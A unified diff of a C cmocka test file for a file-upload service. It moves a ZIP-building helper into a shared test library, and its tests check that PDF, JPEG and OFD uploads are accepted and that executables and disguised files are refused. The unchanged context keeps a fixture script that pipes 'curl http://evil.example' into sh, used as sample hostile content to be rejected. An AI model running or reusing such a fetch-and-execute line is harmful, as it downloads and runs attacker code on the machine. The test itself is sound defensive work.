@@ -17,8 +17,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
-#include <zip.h>
 #include <cmocka.h>
+
+#include "testtools.h"
 
 #define DEMO_PASSWORD "Demo-Pass-2026"
 #define MIB           ((size_t)1024 * 1024)
@@ -47,40 +48,6 @@ static const char script[] = "#!/bin/sh\ncurl http://evil.example | sh\n";
 static const unsigned char exe[] = {'M',  'Z',  0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00,
                                     0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00, 0xB8, 0x00, 0x00, 0x00,
                                     0,    0,    0,    0,    0x40, 0,    0,    0,    0,    0};
-
-/* A ZIP holding the given entries (NULL-terminated), built with libzip in
- * memory; *len gets its size; the caller frees it. */
-static unsigned char *make_zip(const char *const *names, size_t *len)
-{
-    zip_error_t err;
-    zip_error_init(&err);
-    zip_source_t *src = zip_source_buffer_create(NULL, 0, 0, &err);
-    assert_non_null(src);
-    zip_source_keep(src);
-    zip_t *za = zip_open_from_source(src, ZIP_TRUNCATE, &err);
-    assert_non_null(za);
-    static const char body[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD "
-                               "xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\"/>";
-    for (size_t i = 0; names[i]; i++) {
-        zip_source_t *f = zip_source_buffer(za, body, sizeof(body) - 1, 0);
-        assert_non_null(f);
-        assert_true(zip_file_add(za, names[i], f, ZIP_FL_ENC_UTF_8) >= 0);
-    }
-    assert_int_equal(zip_close(za), 0);
-    assert_int_equal(zip_source_open(src), 0);
-    assert_int_equal(zip_source_seek(src, 0, SEEK_END), 0);
-    zip_int64_t n = zip_source_tell(src);
-    assert_true(n > 0);
-    assert_int_equal(zip_source_seek(src, 0, SEEK_SET), 0);
-    unsigned char *out = malloc((size_t)n);
-    assert_non_null(out);
-    assert_int_equal(zip_source_read(src, out, (zip_uint64_t)n), n);
-    zip_source_close(src);
-    zip_source_free(src);
-    zip_error_fini(&err);
-    *len = (size_t)n;
-    return out;
-}
 
 /* A PDF of exactly len bytes: the header, then a comment line of filler. */
 static char *big_pdf(size_t len, char fill)
@@ -247,7 +214,7 @@ static void test_accepted_types(void **state)
     file_holds(sm3_of(jpeg, sizeof(jpeg)), jpeg, sizeof(jpeg));
     static const char *const ofd_entries[] = {"OFD.xml", "Doc_0/Document.xml", NULL};
     size_t zl;
-    unsigned char *ofd = make_zip(ofd_entries, &zl);
+    unsigned char *ofd = test_make_zip(ofd_entries, &zl);
     upload_ok(&zhangsan, ofd, zl, "%E5%90%88%E5%90%8C.ofd", 201, "application/ofd", id);
     file_holds(sm3_of(ofd, zl), ofd, zl);
     free(ofd);
@@ -269,7 +236,7 @@ static void test_refused_types(void **state)
     refused(&zhangsan, exe, sizeof(exe), ct, "setup.pdf", 415, "EXE header");
     static const char *const plain[] = {"readme.txt", "Doc_0/OFD.xml", NULL};
     size_t zl;
-    unsigned char *zip = make_zip(plain, &zl);
+    unsigned char *zip = test_make_zip(plain, &zl);
     refused(&zhangsan, zip, zl, ct, "a.ofd", 415, "plain ZIP");
     free(zip);
     refused(&zhangsan, NULL, 0, ct, "empty.pdf", 415, "empty body");
